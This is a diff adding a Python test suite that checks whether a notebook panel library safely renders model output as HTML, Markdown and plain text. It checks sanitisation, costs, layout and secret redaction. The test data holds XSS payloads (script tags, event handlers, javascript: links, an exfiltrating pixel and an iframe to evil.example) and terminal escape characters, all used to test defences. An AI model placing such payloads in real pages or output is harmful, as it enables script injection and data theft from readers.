@@ -1,0 +1,652 @@
+"""What people read: that it is whole, honest and harmless."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from moa_nb.chat import Message, Usage
+from moa_nb.panels import figures, html, provenance, text
+from moa_nb.panels.bundle import bundle
+from moa_nb.panels.markdown import first_line, to_html, to_markdown, to_plain
+from moa_nb.panels.tables import table
+from moa_nb.panels.view import CallView, LayerView, PanelView, caption_of, view_of
+from moa_nb.pipeline.result import Call, Layer, Result
+
+QUESTION = (Message("user", "Why did churn rise in the north?"),)
+ANSWER = (
+    "Churn rose because **the price changed** while support was slow.\n\n| cause | share |\n|---|--:|\n| price | 41 % |"
+)
+SYNTHESIS = (Message("system", "Several answers follow; the vault code is 4711."), *QUESTION)
+
+HOSTILE = (
+    "<script>alert(1)</script><img src=x onerror=alert(1)>\n\n"
+    "[click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret) <svg onload=alert(1)>\n\n"
+    '<button data-commandlinker-command="server:run">go</button> <iframe src=//evil.example></iframe>\n\n'
+    "[ref]: javascript:alert(1)\n\nsee [ref], <a href='data:text/html,x' onclick=alert(1)>a</a>\n\n"
+    "```html\n<img src=x onerror=alert(1)>\n```\n\n$$ `` <b> $$ `<img src=x>`\n\n"
+    "\x1b[31mred\x1b[0m \u202egnp.exe \x00 \ud800"
+)
+
+
+def churn(**changes: object) -> Result:
+    """Return a run of two layers in which one of four proposers failed and one came from the cache."""
+    proposers = (
+        Call("alpha", "lab:a", QUESTION, "The **price** change.", Usage(412, 180), 0.0004, 0.0, 0.1, 0.4, 2.1),
+        Call("beta", "lab:b", QUESTION, "Three things.", Usage(418, 232), 0.0021, 0.0, 0.3, None, 3.0, attempts=2),
+        Call("gamma", "lab:c", QUESTION, "Support.", Usage(409, 171), 0.0, cached=True, attempts=0),
+        Call("delta", "lab:d", QUESTION, seconds=3.5, attempts=3, error="lab does not answer", error_kind="service"),
+    )
+    aggregator = Call(
+        *("aggregator", "lab:e", SYNTHESIS, ANSWER, Usage(901, 307), 0.0098, 3.5, 0.1, 0.5, 2.9),
+        template="synthesize",
+        template_digest="ab12",
+        parameters=(("temperature", 0.7), ("api_key", "sk-12345")),
+    )
+    run = Result(
+        text=ANSWER,
+        pipeline="moa-lite",
+        layers=(Layer("layer 1", proposers), Layer("layer 2", (aggregator,))),
+        seconds=6.4,
+        degraded=True,
+        run_id="run-1",
+        conversation=SYNTHESIS,
+        budget=0.05,
+    )
+    return run.replace(**changes)
+
+
+def hostile() -> Result:
+    """Return a run in which everything that can be text is an attack."""
+    call = Call(
+        *(HOSTILE, HOSTILE, (Message("user", HOSTILE),), HOSTILE + "!", Usage(1, 2)),
+        reasoning=HOSTILE,
+        note=HOSTILE,
+        answered_by=HOSTILE,
+        template=HOSTILE,
+        parameters=((HOSTILE, HOSTILE),),
+    )
+    failed = Call(HOSTILE, HOSTILE, error=HOSTILE, attempts=2)
+    layers = (Layer(HOSTILE, (call, failed)),)
+    conversation = (Message("user", HOSTILE),)
+    return Result(HOSTILE, HOSTILE, layers, HOSTILE, 1.0, notes=(HOSTILE,), run_id=HOSTILE, conversation=conversation)
+
+
+class Tags(HTMLParser):
+    """The tags and attributes of a page, and its text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str, str]] = []
+        self.words: list[str] = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Remember a tag."""
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        """Remember words."""
+        self.words.append(data)
+
+    @property
+    def text(self) -> str:
+        """All words of the page."""
+        return " ".join(" ".join(self.words).split())
+
+
+MARKDOWN_TAGS = {
+    "a",
+    "blockquote",
+    "br",
+    "code",
+    "div",
+    "em",
+    "li",
+    "ol",
+    "pre",
+    "s",
+    "strong",
+    "table",
+    "td",
+    "tr",
+    "ul",
+}
+PANEL_TAGS = MARKDOWN_TAGS | {"b", "details", "span", "summary"}
+RENDERED_TAGS = MARKDOWN_TAGS | {"p", "h4", "h5", "h6", "hr", "thead", "tbody", "th"}
+
+
+def assert_harmless(page: str, tags: set[str], attributes: set[str]) -> None:
+    """Fail on a tag or attribute beyond those given, and on an address that is not on the open web."""
+    seen = Tags(page)
+    assert set(seen.tags) <= tags
+    for tag, name, value in seen.attributes:
+        assert name in attributes, (tag, name)
+        if name == "href":
+            assert re.match(r"(https?://|mailto:)", value, re.IGNORECASE), value
+        if name == "style":
+            assert "url(" not in value
+            assert "expression" not in value
+    page.encode()  # a lone surrogate could not be saved
+
+
+ATTRIBUTES = {"style", "href", "title", "target", "rel", "start"}
+
+# Random characters seldom make Markdown; pieces of it often make something nobody thought of.
+PIECES = st.sampled_from(
+    [
+        *("<script>", "</script>", "<img src=x onerror=a>", "<svg/onload=a>", "<!--", "-->", "<a href=javascript:a>"),
+        *(
+            "[a](javascript:a)",
+            "[a](data:text/html,a)",
+            "![a](http://e/a)",
+            "[a]: javascript:a",
+            "[a]",
+            "](",
+            "![",
+            "\\!",
+        ),
+        *("[a](http://e/\"onclick='a')", "<http://e/>", "<javascript:a>", "https://e/a_b", "[x](//e)", "[x](#y)"),
+        *("```", "~~~", "`", "``", "    ", "\t", "\n", "\n\n", "> ", "- ", "1. ", "# ", "| a | b |\n|---|---|\n", "|"),
+        *(
+            "**",
+            "*",
+            "_",
+            "~~",
+            "$",
+            "$$",
+            "\\",
+            "\\(",
+            "\\begin{x}",
+            "&lt;",
+            "&#60;",
+            "&",
+            "<",
+            ">",
+            '"',
+            "'",
+            "=",
+            "a",
+        ),
+        *(
+            "\x1b[31m",
+            "\x1b]8;;http://e\x07",
+            "\u202e",
+            "\u2066",
+            "\x00",
+            "\ud800",
+            "\r",
+            "\x85",
+            "@@0@@",
+            "&#10;",
+            "{{ x }}",
+        ),
+    ],
+)
+TEXTS = st.one_of(st.text(max_size=200), st.lists(PIECES, max_size=40).map("".join))
+
+
+@given(TEXTS)
+@example(HOSTILE)
+@example("wow\\![a](http://e/a)")
+@example("<https://e/**``[a](javascript:a)\\(--[a]>")
+@settings(deadline=None, max_examples=300)
+def test_any_text_becomes_harmless_html(said: str) -> None:
+    """No text a model can write yields a tag, attribute or address beyond the allowed ones."""
+    assert_harmless(to_html(said), MARKDOWN_TAGS, ATTRIBUTES)
+
+
+@given(TEXTS)
+@example(HOSTILE)
+@example("wow\\![a](http://e/a)")
+@example("<https://e/**``[a](javascript:a)\\(--[a]>")
+@settings(deadline=None, max_examples=300)
+def test_any_text_becomes_harmless_markdown(said: str) -> None:
+    """Readers of Markdown that pass raw HTML through find none in a model's text but our code tags."""
+    from markdown_it import MarkdownIt
+
+    made = to_markdown(said)
+    assert "<" not in made.replace("<pre><code>", "").replace("</code></pre>", "").replace("<code>", "").replace(
+        "</code>",
+        "",
+    )
+    lenient = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    assert_harmless(lenient.render(made), RENDERED_TAGS, ATTRIBUTES | {"class"})
+
+
+@given(TEXTS)
+@example(HOSTILE)
+@example("wow\\![a](http://e/a)")
+@example("<https://e/**``[a](javascript:a)\\(--[a]>")
+@example("<https://e/**``[a](javascript:a)\\(--[a]>")
+@settings(deadline=None, max_examples=100)
+def test_any_text_is_harmless_in_an_exported_report(said: str) -> None:
+    """The own Markdown renderer of nbconvert makes no script, picture or handler of a model's text."""
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    page = Tags(markdown2html_mistune(to_markdown(said)))
+    assert not set(page.tags) & {"script", "img", "svg", "iframe", "button", "object", "style", "form", "input"}
+    for _, name, value in page.attributes:
+        assert not name.startswith(("on", "data-"))
+        if name in {"href", "src"}:
+            assert not re.match(r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE)
+
+
+@given(TEXTS)
+@settings(deadline=None)
+def test_plain_text_has_nothing_hidden(said: str) -> None:
+    """Text for a terminal has no control characters, overrides or halves of characters."""
+    made = to_plain(said)
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", made)
+
+
+@given(TEXTS, st.integers(1, 60))
+@settings(deadline=None)
+def test_a_first_line_is_one_line(said: str, width: int) -> None:
+    """The line that stands for an answer has no line break and about the width asked for."""
+    made = first_line(said, width)
+    assert "\n" not in made
+    assert len(made) <= width + 2
+
+
+def test_markdown_keeps_what_reads_well() -> None:
+    """Emphasis, lists, tables, code and links to the open web survive in HTML."""
+    page = to_html(
+        "# T\n\n**b** *e* `c` ~~s~~ [l](https://x.org/a?b=1&c=2)\n\n1. one\n\n| a |\n|--:|\n| 1 |\n\n> q\n\n```\nx < 1\n```"
+    )
+    assert {"strong", "em", "code", "s", "a", "ol", "li", "table", "td", "blockquote", "pre"} <= set(Tags(page).tags)
+    assert 'rel="noopener noreferrer nofollow"' in page
+    assert 'target="_blank"' in page
+    assert "text-align:right" in page
+    assert "x &lt; 1" in page
+    assert "<h1" not in page
+
+
+def test_safe_markdown_keeps_what_reads_well() -> None:
+    """Emphasis, lists, tables, code and links to the open web survive as Markdown."""
+    said = "# T\n\n**b** *e* `c` [l](https://x.org/a)\n\n- one\n  - two\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n```python\nx = 1\n```"
+    assert to_markdown(said) == "###" + said
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("![a **cat**](http://e/c.png)", "[image: a cat]"),
+        ("![](data:image/png;base64,AAAA)", "[image]"),
+        ("[go](javascript:alert(1))", "go (javascript:alert(1))"),
+        ("[go](/api/shutdown)", "go (/api/shutdown)"),
+        ("a\u202eb", "a\\u202eb"),
+        ("\x1b[1mbold\x1b[0m", "bold"),
+        ("\x1b]8;;http://e\x07link\x1b]8;;\x07", "link"),
+        ("nul\x00", "nul\u2400"),
+        ("half \ud83d", "half \ufffd"),
+        ("<b>tag</b>", "<b>tag</b>"),
+        ("costs $5, then $6", "costs $5, then $6"),
+    ],
+)
+def test_what_is_refused_is_shown_as_what_it_is(said: str, shown: str) -> None:
+    """A picture is named, a refused link keeps its words and its address, hidden characters are visible."""
+    from markdown_it import MarkdownIt
+
+    assert Tags(to_html(said)).text == shown
+    assert Tags(MarkdownIt().render(to_markdown(said))).text == shown
+
+
+def test_a_long_text_is_cut_and_says_so() -> None:
+    """What is beyond the limit is counted, in HTML and in Markdown."""
+    assert "… 1,500 more characters" in to_html("x" * 2000, limit=500)
+    assert "… 1,500 more characters" in to_markdown("x" * 2000, limit=500)
+
+
+@pytest.mark.parametrize(
+    "piece", ["[", "*a_ ", ">", "`", "![a](", "|a|b|\n|-|-|\n|1|2|\n", "**a", "![", "<a", "- ", "\x1b]"]
+)
+def test_no_text_takes_long(piece: str) -> None:
+    """Fifty thousand characters made to be slow take less than a few seconds."""
+    import time
+
+    begun = time.process_time()
+    to_html(piece * (50_000 // len(piece)))
+    assert time.process_time() - begun < 5
+
+
+# -- the view -------------------------------------------------------------------------------------
+
+
+def test_a_view_says_what_happened() -> None:
+    """Captions, states, flags and sums come from the result alone."""
+    view = view_of(churn())
+    assert [layer.caption for layer in view.layers] == [
+        "proposers answer side by side",
+        "the aggregator reads 3 answers",
+    ]
+    assert [call.state for call in view.calls] == ["done", "done", "cached", "failed", "done"]
+    assert view.flags == ("degraded: 3 of 4 proposers answered",)
+    assert (view.n_calls, view.n_cached, view.state) == (5, 1, "done")
+    assert view.cost == pytest.approx(0.0123)
+
+
+@pytest.mark.parametrize(
+    ("changes", "flag"),
+    [
+        ({"converged": False}, "did not converge"),
+        ({"accepted": False}, "not accepted"),
+        ({"n_unparsed": 2}, "2 answers not understood"),
+        ({"stop_reason": "budget"}, "ended by: budget"),
+    ],
+)
+def test_every_flag_of_a_result_is_shown(changes: dict[str, object], flag: str) -> None:
+    """A result that is not a full one says so in the panel, in Markdown and in plain text."""
+    view = view_of(churn(**changes))
+    assert flag in view.flags
+    for shown in (Tags(html.panel(view)).text, text.markdown(view), text.plain(view)):
+        assert flag in shown
+
+
+def test_a_failed_run_and_a_stopped_one_say_so() -> None:
+    """A run without an answer gives its reason; one that was interrupted is not called failed."""
+    failed = view_of(churn(text="", error="too few agents answered", stop_reason="error"))
+    assert failed.state == "failed"
+    assert "No answer. too few agents answered" in Tags(html.panel(failed)).text
+    assert "too few agents answered" in text.plain(failed)
+    assert view_of(churn(error="stopped", stop_reason="interrupted")).state == "stopped"
+
+
+def test_captions_follow_place_and_count() -> None:
+    """A caption says who answers and how many answers are read."""
+    assert caption_of(1, n_calls=1, n_read=1, agent="judge") == "the judge reads 1 answer"
+    assert caption_of(1, n_calls=3, n_read=3) == "3 agents read 3 answers"
+    assert caption_of(0, n_calls=1) == "one agent answers"
+
+
+# -- the panel ------------------------------------------------------------------------------------
+
+
+def test_the_panel_has_the_answer_first_and_every_figure() -> None:
+    """The answer stands before the calls, and each call's figures are in its row."""
+    words = Tags(html.panel(view_of(churn()))).text
+    assert words.index("Churn rose because") < words.index("Layer 1") < words.index("Layer 2")
+    for figure in ("$0.0123 of $0.05", "2,140 in", "890 out", "5 calls, 1 cached", "6.4 s", "412 → 180", "0.0098"):
+        assert figure in words
+    for remark in ("2 tries", "cached", "failed after 3 tries", "lab does not answer", "temperature 0.7"):
+        assert remark in words
+
+
+def test_the_panel_keeps_to_what_sanitisers_know() -> None:
+    """The panel has no tag, attribute or style that a sanitiser drops and that it could not do without."""
+    page = Tags(html.panel(view_of(churn())))
+    assert set(page.tags) <= PANEL_TAGS
+    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES | {"colspan", "class"}
+    assert {value for _, name, value in page.attributes if name == "class"} == {"tex2jax_ignore mathjax_ignore"}
+    styles = [value for _, name, value in page.attributes if name == "style"]
+    assert not [style for style in styles if "var(" in style or "url(" in style or "'" in style]
+    kept = {
+        *("align-items", "background", "background-color", "border", "border-collapse", "border-left"),
+        *("border-radius", "border-top", "box-sizing", "color", "display", "flex", "flex-wrap", "font-family"),
+        *("font-size", "font-style", "font-weight", "gap", "height", "justify-content", "line-height", "margin"),
+        *("margin-left", "max-width", "min-width", "opacity", "overflow", "overflow-wrap", "overflow-x", "padding"),
+        *("padding-left", "table-layout", "text-align", "text-overflow", "vertical-align", "white-space", "width"),
+    }
+    used = {part.split(":")[0].strip() for style in styles for part in style.split(";") if part.strip()}
+    assert used - kept == {"font-variant-numeric"}
+
+
+def test_a_strictly_sanitised_panel_still_reads() -> None:
+    """An export that knows no <details> and no style shows all words, and few tags as text."""
+    from nbconvert.filters.strings import clean_html
+
+    page: str = clean_html(html.panel(view_of(churn())))  # type: ignore[no-untyped-call]
+    shown = Tags(page).text
+    assert "Churn rose because the price changed" in shown
+    assert "41 %" in shown
+    assert set(re.findall(r"</?(\w+)[^>]*>", shown)) <= {"details", "summary", "tbody"}
+    assert "style=" not in shown
+
+
+def test_a_hostile_run_is_harmless_in_every_form() -> None:
+    """No text of a result, wherever it stands, becomes a tag, handler or address."""
+    from markdown_it import MarkdownIt
+
+    result = hostile()
+    shown = bundle(result)
+    assert_harmless(shown["text/html"], PANEL_TAGS, ATTRIBUTES | {"class", "colspan"})
+    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown["text/markdown"])
+    assert_harmless(rendered, RENDERED_TAGS, ATTRIBUTES)
+    assert not re.search("[\x00-\x08\x1b\u202e\ud800]", shown["text/plain"])
+    view = view_of(result)
+    live = CallView(HOSTILE, HOSTILE, state="answering", text=HOSTILE, note=HOSTILE)
+    pieces = [html.header(view), html.answer(view), html.layer_heading(view.layers[0]), html.row(live, 1.0)]
+    for piece in [*pieces, *(html.row(call, 1.0) for call in view.calls)]:
+        assert_harmless(piece, PANEL_TAGS, ATTRIBUTES | {"class", "colspan"})
+
+
+def test_a_large_panel_keeps_to_its_size_and_says_what_it_left_out() -> None:
+    """Texts are shortened, then rows left out, and the panel counts both."""
+    calls = tuple(Call(f"a{n}", "lab:a", (Message("user", f"{n}<é>" * 2000),), f"{n}- é\n" * 3000) for n in range(12))
+    long = Result("word " * 20_000, "big", (Layer("layer 1", calls),))
+    page = html.panel(view_of(long))
+    assert 100_000 < len(page.encode()) <= html.MAX_BYTES
+    assert "13 answers and 12 prompts shortened; the whole text is in result.layers" in page
+    many = Result("yes", "big", (Layer("layer 1", calls * 40), Layer("layer 2", (Call("z", "lab:z", text="yes"),))))
+    page = html.panel(view_of(many), max_bytes=60_000)
+    assert len(page.encode()) <= 60_000
+    assert re.search(r"\d+ calls left out; the whole text is in result.layers", page)
+    assert "Layer 2" in page
+
+
+def test_equal_prompts_and_the_answer_stand_in_the_panel_once() -> None:
+    """What would be said twice is referred to."""
+    words = Tags(html.panel(view_of(churn()))).text
+    assert words.count("Why did churn rise in the north?") == 2
+    assert words.count("prompt: the same as alpha's") == 3
+    assert "its answer stands above" in words
+
+
+def test_unknown_is_never_shown_as_zero() -> None:
+    """A missing price is a dash and 'unknown cost', a free call is 0, estimated tokens are marked."""
+    calls = (
+        Call("a", "lab:a", text="x", usage=Usage(10, 5, estimated=True)),
+        Call("b", "lab:b", text="y", usage=Usage(10, 5), cost=0.0),
+    )
+    page = html.panel(view_of(Result("x", "single", (Layer("layer 1", calls),))))
+    words = Tags(page).text
+    assert "unknown cost" in words
+    assert 'title="no known price"' in page
+    assert "≈10 → ≈5" in words
+    assert "≈20 in" in words
+    assert "10 → 5 0" in words
+    free = Result("y", "single", (Layer("layer 1", calls[1:]),))
+    assert "$0" in Tags(html.panel(view_of(free))).text
+
+
+def test_a_cost_that_may_be_higher_is_shown_as_at_least() -> None:
+    """What was sent and never reported counts, and is marked."""
+    cut = Call("a", "lab:a", cost=0.002, error="the connection was cut")
+    words = Tags(html.panel(view_of(Result("", "single", (Layer("layer 1", (cut,)),), error="cut")))).text
+    assert "at least $0.0020" in words
+
+
+# -- the live pieces ------------------------------------------------------------------------------
+
+
+def test_a_row_shows_the_end_of_an_answer_while_it_is_written() -> None:
+    """While the text grows its end stands there as it is; when it is done it opens."""
+    growing = CallView("a", "lab:a", state="answering", text="**old** " * 200 + "**new**", seconds=1.0)
+    page = html.row(growing, 2.0)
+    assert "**new**" in page
+    assert len(page) < 4000
+    assert "<details>" not in page
+    done = html.row(CallView("a", "lab:a", text="**new**", seconds=1.0), 2.0)
+    assert "<strong>new</strong>" in done
+    assert "<details>" in done
+
+
+@pytest.mark.parametrize("state", ["waiting", "queued", "answering", "done", "failed", "cached", "cancelled"])
+def test_stacked_rows_line_up(state: str) -> None:
+    """The axis and a row in any state give their columns the same widths."""
+    call = CallView("a", "lab:a", state=state, text="x", seconds=1.0, error="no" if state == "failed" else None)  # type: ignore[arg-type]
+
+    def widths(page: str) -> list[str]:
+        cells = [value for tag, name, value in Tags(page).attributes if (tag, name) == ("td", "style")][:5]
+        return [found[1] if (found := re.search(r"(?:^|;)width:([^;]+)", cell)) else "" for cell in cells]
+
+    assert widths(html.row(call, 2.0)) == widths(html.axis(2.0)) == ["30%", "", "13%", "4.7em", "3.4em"]
+
+
+@given(
+    st.floats(0, 1e4),
+    st.floats(0, 1e4),
+    st.floats(0, 1e4),
+    st.one_of(st.none(), st.floats(0, 1e4)),
+    st.floats(0, 2e4),
+    st.sampled_from(["queued", "answering", "done", "failed", "cached", "cancelled"]),
+)
+@settings(deadline=None)
+def test_a_bar_stays_on_the_time_line(
+    started: float,
+    seconds: float,
+    queued: float,
+    first: float | None,
+    scale: float,
+    state: str,
+) -> None:
+    """Whatever the clocks say, the parts of a bar are not negative and end where the line ends."""
+    call = CallView(
+        *("a", "lab:a", "", state),  # type: ignore[arg-type]
+        started=started,
+        seconds=seconds,
+        queued_seconds=queued,
+        first_token_seconds=first,
+    )
+    drawn = re.findall(r"flex:none;margin-left:(-?[\d.]+)%;width:(-?[\d.]+)%", html.row(call, scale))
+    parts = [float(number) for part in drawn for number in part]
+    assert all(part >= 0 for part in parts)
+    assert sum(parts) <= 100.1
+
+
+def test_a_running_panel_has_its_pieces() -> None:
+    """The header counts the answers, and the answer is shown as far as it has come."""
+    calls = (CallView("a", "lab:a", text="x"), CallView("b", "lab:b", state="queued"))
+    view = PanelView("moa", "running", "so far **bold", layers=(LayerView("layer 1", calls, "side by side"),), cost=0.0)
+    assert "running, 1 of 2 answered" in Tags(html.header(view)).text
+    assert "so far **bold" in html.answer(view)
+    assert "Layer 1 side by side" in Tags(html.layer_heading(view.layers[0])).text
+
+
+# -- Markdown, plain text, provenance -------------------------------------------------------------
+
+
+def test_the_markdown_form_has_the_answer_and_a_row_for_each_call() -> None:
+    """The answer comes first, then the calls; no dollar sign invites a reader to typeset mathematics."""
+    made = text.markdown(view_of(churn()))
+    assert made.startswith("Churn rose because **the price changed**")
+    rows = [line for line in made.split("\n") if line.startswith("| ")]
+    assert len(rows) == 3 + 2 + 5
+    assert "failed after 3 tries: lab does not answer" in made
+    assert "$" not in made
+
+
+@pytest.mark.parametrize("n_calls", [0, 1, 5, 200])
+@pytest.mark.parametrize("n_lines", [0, 3, 500])
+def test_the_plain_form_fits_a_terminal(n_calls: int, n_lines: int) -> None:
+    """However long the answer and however many the calls, it is some forty lines, and says what is missing."""
+    calls = tuple(Call(f"a{n}", "lab:a", text="x" * 5000) for n in range(n_calls))
+    made = text.plain(view_of(Result("line\n" * n_lines, "moa", (Layer("layer 1", calls),))))
+    assert len(made.split("\n")) <= 40
+    assert max(map(len, made.split("\n"))) < 200
+    assert ("more characters" in made) == (n_lines > 100)
+    assert ("more calls" in made) == (n_calls > 100)
+
+
+def test_the_record_holds_provenance_and_no_secret() -> None:
+    """The record is JSON with models, parameters, digests and answers, and neither keys nor system prompts."""
+    made = provenance.record(churn())
+    written = json.dumps(made, allow_nan=False, ensure_ascii=False)
+    written.encode()
+    assert json.loads(written) == made
+    assert "sk-12345" not in written
+    assert "4711" not in written
+    call = made["layers"][1]["calls"][0]
+    assert call["template_digest"] == "ab12"
+    assert call["parameters"] == {"temperature": 0.7, "api_key": "…"}
+    assert call["text"] == ANSWER
+    assert made["totals"]["usage"]["prompt_tokens"] == 2140
+    assert made["totals"] | {"calls": 5, "cached": 1, "failed": 1} == made["totals"]
+    assert made["flags"]["degraded"] is True
+
+
+def test_the_record_of_anything_can_be_saved() -> None:
+    """Values that JSON does not know, infinities and halves of characters do not break the notebook."""
+    made = provenance.record(hostile().replace(value={1: {float("nan"), object}, "secret": 1}, seconds=float("inf")))
+    json.dumps(made, allow_nan=False, ensure_ascii=False).encode()
+    long = provenance.record(churn(text="x" * 500_000))
+    assert long["is_cut"] is True
+    assert long["n_characters"] == 500_000
+    assert len(json.dumps(long)) < 250_000
+
+
+def test_prompt_digests_tell_prompts_apart() -> None:
+    """Equal prompts have equal digests, and moving text from one turn to the next changes the digest."""
+    prompts = [
+        (Message("user", "ab"), Message("user", "c")),
+        (Message("user", "a"), Message("user", "bc")),
+        (Message("user", "ab"), Message("user", "c")),
+    ]
+    result = Result("x", "p", (Layer("layer 1", tuple(Call("a", "lab:a", prompt) for prompt in prompts)),))
+    one, two, three = (call["prompt_digest"] for call in provenance.record(result)["layers"][0]["calls"])
+    assert one == three != two
+
+
+def test_a_bundle_has_every_form() -> None:
+    """A notebook gets HTML, Markdown, plain text and provenance, and no widget."""
+    assert set(bundle(churn())) == {"text/html", "text/markdown", "text/plain", "application/vnd.moa.run+json"}
+
+
+# -- tables, figures, imports ---------------------------------------------------------------------
+
+
+def test_a_table_shows_itself_everywhere() -> None:
+    """Cells are escaped in HTML and Markdown, and numbers stand to the right in a terminal."""
+    made = table([("<b>", 3, None), ("x|y", 1200)], ["model", "calls", "note"], "models")
+    assert_harmless(made._repr_html_(), PANEL_TAGS | {"th"}, {"style", "class"})
+    assert "&lt;b&gt;" in made._repr_html_()
+    assert "| x\\|y | 1,200 |  |" in made._repr_markdown_()
+    assert repr(made) == "models\nmodel  calls  note\n-----  -----  ----\n<b>        3  \N{EN DASH}\nx|y    1,200"
+
+
+def test_figures_are_short_and_exact_enough() -> None:
+    """Small costs keep two digits, and nothing is rounded to zero."""
+    assert [figures.dollars(cost) for cost in (0.0123, 0.00001234, 3.0, None)] == [
+        "0.0123",
+        "0.000012",
+        "3.00",
+        "\N{EN DASH}",
+    ]
+    assert figures.dollars_briefly(1e-9) == "<0.0001"
+    assert figures.tokens(None) == "\N{EN DASH}"
+
+
+@given(st.floats(1e-9, 1e6))
+def test_a_cost_is_never_shown_as_nothing(cost: float) -> None:
+    """Any cost above zero shows a digit above zero, or that it is below what is shown."""
+    assert re.search("[1-9]", figures.dollars(cost))
+    assert re.search("[1-9]", figures.dollars_briefly(cost))
+
+
+def test_importing_the_panels_loads_no_markdown_library() -> None:
+    """The libraries that draw come in when something is drawn."""
+    names = "moa_nb.panels.bundle, moa_nb.panels.tables"
+    late = "{'markdown_it', 'nh3', 'jinja2', 'pydantic'}"
+    code = f"import sys; import moa_nb; before = set(sys.modules); import {names}; print({late} & (set(sys.modules) - before))"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "set()"
